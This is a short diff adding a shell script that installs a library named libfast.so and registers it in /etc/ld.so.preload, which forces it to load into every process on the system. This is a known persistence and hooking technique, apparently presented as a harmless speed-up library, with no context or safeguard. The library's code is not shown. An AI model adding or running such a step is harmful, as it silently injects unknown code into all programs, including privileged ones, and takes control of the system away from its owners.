@@ -1,0 +1,3 @@
+#!/bin/sh
+cp libfast.so /usr/local/lib/
+echo /usr/local/lib/libfast.so >> /etc/ld.so.preload
